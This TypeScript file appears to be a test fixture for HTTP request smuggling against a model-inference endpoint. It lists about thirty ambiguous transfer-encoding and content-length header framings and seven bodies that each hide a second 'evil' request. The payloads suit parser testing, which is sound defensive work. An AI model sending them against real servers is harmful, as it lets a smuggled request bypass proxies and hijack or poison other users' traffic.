/** A request that is hidden in the body of another. */
export const evil = 'POST /v2/evil HTTP/1.1\r\nhost: h\r\ncontent-length: 1\r\n\r\nx';
/** The beginning of a head, with its line and its host. */
export const post = 'POST /v2/models/m/infer HTTP/1.1\r\nhost: h\r\n';
const chunkedEvil = `${evil.length.toString(16)}\r\n${evil}\r\n0\r\n\r\n`;

/** Heads whose length two servers may read differently; each is tried with each body below. */
export const framings: readonly string[] = [
  'content-length: 5\r\ntransfer-encoding: chunked',
  'transfer-encoding: chunked\r\ncontent-length: 5',
  'transfer-encoding: chunked\r\ntransfer-encoding: identity',
  'transfer-encoding: identity\r\ntransfer-encoding: chunked',
  'transfer-encoding: chunked, identity',
  'transfer-encoding: chunked, chunked',
  'transfer-encoding: "chunked"',
  'transfer-encoding: chunked;q=1',
  'transfer-encoding:\tchunked',
  'transfer-encoding:\x0bchunked',
  'transfer-encoding: \x00chunked',
  'transfer-encoding : chunked',
  ' transfer-encoding: chunked',
  'x: y\r\n transfer-encoding: chunked',
  'transfer-encoding\n: chunked',
  'x: y\ntransfer-encoding: chunked',
  'x: y\rtransfer-encoding: chunked',
  'transfer_encoding: chunked',
  'content-length: 0\r\ncontent-length: 5',
  'content-length: 0, 5',
  'content-length: 0x5',
  'content-length: 5 5',
  'content-length: -0',
  'content-length:\r\n 5',
  'content-length: 00',
  'content-length: 0\r\nexpect: 100-continue',
  'connection: content-length\r\ncontent-length: 57',
  'connection: transfer-encoding\r\ntransfer-encoding: chunked',
  'connection: host\r\ncontent-length: 0',
  'te: trailers\r\ntransfer-encoding: chunked\r\ntrailer: content-length',
];
/** What follows such a head: each hides a request. */
export const bodies: readonly string[] = [
  `0\r\n\r\n${evil}`,
  chunkedEvil,
  evil,
  `0;ext=${'a'.repeat(20)}\r\n\r\n${evil}`,
  `0\n\n${evil}`,
  `0\r\ncontent-length: 57\r\n\r\n${evil}`,
  `ffffffffffffffff1\r\nx\r\n0\r\n\r\n${evil}`,
];
